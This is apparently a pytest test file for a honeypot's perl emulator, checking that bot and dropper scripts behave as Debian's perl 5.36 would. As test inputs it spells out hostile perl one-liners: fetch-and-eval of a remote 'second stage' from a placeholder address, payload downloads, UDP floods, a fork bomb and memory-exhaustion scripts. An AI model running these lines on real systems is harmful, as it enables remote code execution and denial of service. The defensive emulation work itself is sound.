# ruff: noqa: E501 - programs and what they print are longer than a line
"""perl: what people, bots and droppers run gives what perl 5.36 gives (recorded from Debian 12's), within the budgets."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from tests.machine.programs.support import Box, reply

from urltrap.model.event import ForwardAsked, ProgramRun

RECORDED = json.loads((Path(__file__).parent / "perl_recorded.json").read_text("utf-8"))


@pytest.fixture(scope="module")
def box() -> Box:
    """One machine for all scripts."""
    return Box()


@pytest.mark.parametrize("row", RECORDED["scripts"], ids=lambda row: row["script"][:50])
def test_a_script_does_what_the_real_one_did(box: Box, row: dict[str, object]) -> None:
    box.put("/tmp/t.pl", f"{row['script']}\n".encode())
    done = box.run("cd /tmp; perl /tmp/t.pl")
    said = (done.status, done.out.decode("latin-1"), done.err.decode("latin-1"))
    assert said == (row["status"], row["out"], row["err"])


@pytest.mark.parametrize("row", RECORDED["lines"], ids=lambda row: row["line"][:50])
def test_a_command_line_does_what_the_real_one_did(box: Box, row: dict[str, object]) -> None:
    done = box.run(f"rm -rf /tmp/perl.d; mkdir /tmp/perl.d; cd /tmp/perl.d; {row['line']}")
    said = (done.status, done.out.decode("latin-1"), done.err.decode("latin-1"))
    assert said == (row["status"], row["out"], row["err"])


@pytest.mark.parametrize(
    ("line", "status", "said"),
    [
        ("perl -e 'print `hostname`' | diff - /etc/hostname", 0, ""),
        ("perl -e 'print +(getpwuid($<))[0], \"\\n\"'", 0, "root\n"),
        ("perl -v | grep -c 'Larry Wall'", 0, "1\n"),
        ("perl -e 'use POSIX; print +(uname())[0], \"\\n\"'", 0, "Linux\n"),
        ("perl -e 'print $^O, $0, \"\\n\"'", 0, "linux-e\n"),
        ("printf '#!/usr/bin/perl\\nprint \"a @ARGV\\\\n\";' > x; chmod +x x; ./x 1 2", 0, "a 1 2\n"),
        ("perl -V:version", 0, "version='5.36.0';\n"),
        ("perl -e 'kill 15, $$; sleep 5'", 143, ""),
        ("perl -e 'alarm 1; sleep 5'", 142, ""),
        ("perl -e '$SIG{TERM} = \"IGNORE\"; sleep 3; print qq(done\\n)' & sleep 1; kill $!; wait", 0, "done\n"),
        ("perl -e 'my $e = time + 20; use Socket; socket(S, PF_INET, SOCK_DGRAM, 17); while (time < $e) { send S, 1, 0, pack_sockaddr_in(9, inet_aton(q(192.0.2.1))) } print qq(over\\n)'", 0, "over\n"),
    ],
)  # fmt: skip
def test_it_sees_the_machine(box: Box, line: str, status: int, said: str) -> None:
    done = box.run(f"cd /tmp; {line}")
    assert (done.status, (done.out + done.err).decode()) == (status, said)


def test_a_newer_release_says_so_and_words_a_missing_module_as_it_does() -> None:
    box = Box("debian-13")
    assert b"(v5.40.1) built for x86_64-linux-gnu-thread-multi" in box.run("perl -v").out
    done = box.run("perl -e 'use LWP::Simple'")
    assert (
        done.status == 2
        and b"(@INC entries checked: /etc/perl /usr/local/lib/x86_64-linux-gnu/perl/5.40.1" in done.err
    )


def test_lwp_is_not_there_until_somebody_installs_it() -> None:
    box = Box(network=lambda request: reply(request, b"payload"))
    line = 'perl -MLWP::Simple -e \'print getstore("http://192.0.2.9/x", "/tmp/got"), "\\n"; print get("http://192.0.2.9/y")\''
    missing = box.run(line)
    assert missing.status == 2 and not missing.requests
    assert missing.err.startswith(
        b"Can't locate LWP/Simple.pm in @INC (you may need to install the LWP::Simple module)"
    )
    box.run(
        "mkdir -p /usr/share/perl5/LWP; touch /usr/share/perl5/LWP/Simple.pm /usr/share/perl5/LWP/UserAgent.pm"
    )
    done = box.run(line)
    assert done.out == b"200\npayload" and box.read("/tmp/got") == b"payload"
    assert [each.user_agent for each in done.requests] == [b"LWP::Simple/6.68 libwww-perl/6.68"] * 2
    agent = box.run(
        'perl -MLWP::UserAgent -e \'my $u = LWP::UserAgent->new(agent => "Mine/1"); $u->timeout(9);'
        ' my $r = $u->get("http://192.0.2.9/z"); print $r->status_line, " ", $r->is_success, $r->content, $r->header("Content-Length")'
        "'"
    )
    assert agent.out == b"200 OK 1payload7" and agent.requests[0].user_agent == b"Mine/1"


def test_http_tiny_fetches() -> None:
    box = Box(network=lambda request: reply(request, b"print qq(second stage\\n);"))
    done = box.run("perl -MHTTP::Tiny -e 'eval HTTP::Tiny->new->get(\"http://192.0.2.9/s\")->{content}'")
    assert done.out == b"second stage\n" and done.requests[0].user_agent == b"HTTP-Tiny/0.080"
    done = box.run(
        'perl -MHTTP::Tiny -e \'my $r = HTTP::Tiny->new(agent => "x")->mirror("http://192.0.2.9/s", "/tmp/m"); print $r->{status}\''
    )
    assert (
        done.out == b"200" and box.read("/tmp/m").startswith(b"print") and done.requests[0].user_agent == b"x"
    )
    https = box.run("perl -MHTTP::Tiny -e 'print HTTP::Tiny->new->get(\"https://192.0.2.9/\")->{content}'")
    assert (
        https.out.startswith(b"IO::Socket::SSL 1.42 must be installed for https support\n")
        and not https.requests
    )
    gone = Box(network=lambda request: reply(request, None, status=404, reason=b"Not Found"))
    told = gone.run(
        'perl -MHTTP::Tiny -e \'my $r = HTTP::Tiny->new->get("http://192.0.2.9/"); print "$r->{status} $r->{reason} [$r->{success}]"\''
    )
    assert told.out == b"404 Not Found []"


@pytest.mark.parametrize(
    "code",
    [
        'use IO::Socket; my $s = IO::Socket::INET->new(PeerAddr => "192.0.2.9", PeerPort => "http(80)", Proto => "tcp") or die $@;'
        ' print $s "GET /bot HTTP/1.0\\r\\nHost: 192.0.2.9\\r\\n\\r\\n"; my $body = 0; while (<$s>) { print if $body; $body = 1 if /^\\r?$/ }',
        'use IO::Socket::INET; my $s = new IO::Socket::INET("192.0.2.9:80"); $s->autoflush(1);'
        ' $s->print("GET /bot HTTP/1.0\\r\\nHost: 192.0.2.9\\r\\n\\r\\n"); my @l = <$s>; print $l[-1]; close $s;',
        'use Socket; socket(S, AF_INET, SOCK_STREAM, getprotobyname("tcp")) or die; connect(S, sockaddr_in(80, inet_aton("192.0.2.9"))) or die $!;'
        ' select(S); $| = 1; print "GET /bot HTTP/1.0\\r\\nHost: 192.0.2.9\\r\\n\\r\\n"; select(STDOUT); local $/; my $a = <S>; print +(split /\\r\\n\\r\\n/, $a)[1];',
        'use IO::Socket; my $s = IO::Socket::INET->new(PeerHost => "192.0.2.9", PeerPort => 80); syswrite $s, "GET /bot HTTP/1.0\\r\\nHost: 192.0.2.9\\r\\n\\r\\n";'
        ' my $all = ""; while (sysread($s, my $b, 512)) { $all .= $b } print substr $all, index($all, "\\r\\n\\r\\n") + 4;',
    ],
)
def test_a_request_through_a_socket_is_asked_of_the_network(code: str) -> None:
    box = Box(network=lambda request: reply(request, b"payload"))
    box.put("/tmp/s.pl", code.encode())
    done = box.run("perl /tmp/s.pl")
    assert [each.url for each in done.requests] == [b"http://192.0.2.9/bot"]
    assert (done.status, done.out) == (0, b"payload")


def test_other_connections_are_told_of_and_never_made() -> None:
    box = Box()
    done = box.run(
        'perl -MIO::Socket -e \'my $s = IO::Socket::INET->new(PeerAddr => "192.0.2.9", PeerPort => 6667) or die "no: $!\\n"\''
    )
    assert (done.status, done.err) == (113, b"no: No route to host\n")
    assert [(fact["host"], fact["port"]) for fact in done.facts(ForwardAsked)] == [(b"192.0.2.9", 6667)]
    flood = box.run(
        'perl -MSocket -e \'socket(S, PF_INET, SOCK_DGRAM, 17); for (1..500) { send(S, pack("a9", "x"), 0, pack_sockaddr_in(53, inet_aton("192.0.2.8"))) } print "sent\\n"\''
    )
    assert flood.out == b"sent\n" and len(flood.facts(ForwardAsked)) == 4 and flood.seconds > 1
    name = box.run('perl -MIO::Socket -e \'IO::Socket::INET->new("irc.example:6667") or print "$@\\n"\'')
    assert name.out == b"IO::Socket::INET: Bad hostname 'irc.example'\n"


@pytest.mark.parametrize(
    "code",
    [
        "use JSON::PP; print 1",
        "use threads;",
        "tie my %h, 'X';",
        "format STDOUT =\n.\nwrite;",
        "print 'x' =~ /(?{ 1 })/",
        "sub X::DESTROY { print 1 }",
        "goto END; END: print 1",
        "print 'a' ~~ 'b'",
        "print 'a' =~ /((a{999}){999}){999}/",
        "use List::Util 'first'; print first()",
        "my %h = map { $_ => 1 } 1..3; local $h{a} = 1; open(F, '-|') or print 1",
    ],
)
def test_what_is_not_known_crashes_and_is_counted(box: Box, code: str) -> None:
    box.put("/tmp/u.pl", code.encode())
    done = box.run("perl /tmp/u.pl")
    assert done.status == 139 and done.out == b""
    assert "not-implemented" in [fact["outcome"] for fact in done.facts(ProgramRun)]


@pytest.mark.parametrize(
    ("script", "ends"),
    [
        ("my $x = 'a' x 10 ** 12", "Out of memory!\n"),
        ("my @a = (1 .. 10 ** 12)", "Out of memory!\n"),
        ("my @a; $a[10 ** 10] = 1", "Out of memory!\n"),
        ("printf '%999999999d', 1", "Out of memory!\n"),
        ("sub f { f() } f()", "Out of memory!\n"),
        ("my $s = 'ab'; $s x= 100 while 1", "Out of memory!\n"),
        ("print pack('A99999999999', 1)", "Out of memory!\n"),
        ("print 10 ** 10 ** 10, qq(\\n)", "Inf\n"),
        ("print 1 << 10 ** 9, qq(\\n)", "0\n"),
        ("print 9 ** 999 ** 999, qq(\\n)", "Inf\n"),
    ],
)
def test_hostile_scripts_end_as_they_would(box: Box, script: str, ends: str) -> None:
    box.put("/tmp/h.pl", script.encode())
    done = box.run("perl /tmp/h.pl")
    assert (done.out + done.err).decode().endswith(ends)


@pytest.mark.parametrize(
    "script",
    ["(" * 5000, "[" * 5000 + "]" * 5000, "-" * 5000 + "1", "{" * 3000, "print " + "1 + (" * 2000, "'a' =~ /(a+)+b/; 'a' x 5000 =~ /x/; ('a' x 5000) =~ /(a+)+b/",
     "$x->" + "[0]->" * 3000 + "[0]", "!" * 4000 + "1", "if (1) {" * 2000, '"' + "@{[" * 800 + '"', "my $x = \\" * 900 + "1"],
)  # fmt: skip
def test_deep_or_endless_texts_are_no_trouble(box: Box, script: str) -> None:
    box.put("/tmp/h.pl", script.encode())
    assert box.run("perl /tmp/h.pl").status in (139, 255, 0)


@pytest.mark.parametrize(
    "script",
    [
        "1 while 1",
        "my $x = 'a'; $x .= substr($x, 0, 100000) while 1",
        "my @x; push @x, 'y' x 1000 while 1",
        "my %h; $h{$i++} = 1 while 1",
        "for (;;) { fork }",
        "{ redo }",
        "map { $_ } 1..100000 for 1..100000",
        "my @a = sort { $a <=> $b } map { rand } 1..200000 while 1",
        "$_ = 'a' x 100000; 1 while s/a/aa/",
        "eval { die } while 1",
    ],
)
def test_a_script_without_end_is_stopped_by_its_budget(script: str) -> None:
    box = Box()
    box.put("/tmp/h.pl", script.encode())
    done = box.run("perl /tmp/h.pl; echo $?", rounds=400_000)
    assert done.status in (137, 0, 1)


def test_what_is_typed_at_a_terminal_is_the_program() -> None:
    box = Box()
    job = box.login.exec_on_terminal("perl", "xterm", 80, 24, None)
    typed = [b"print 6 * 7, qq(\\n);\n", b"\x04"]
    said = b""
    for _ in range(2000):
        for each in job.step(box.now):
            said += getattr(each, "data", b"")
        if job.exit_status is not None:
            break
        if not job.runnable and typed:
            job.receive(typed.pop(0))
    assert said.endswith(b"42\r\n") and job.exit_status == 0
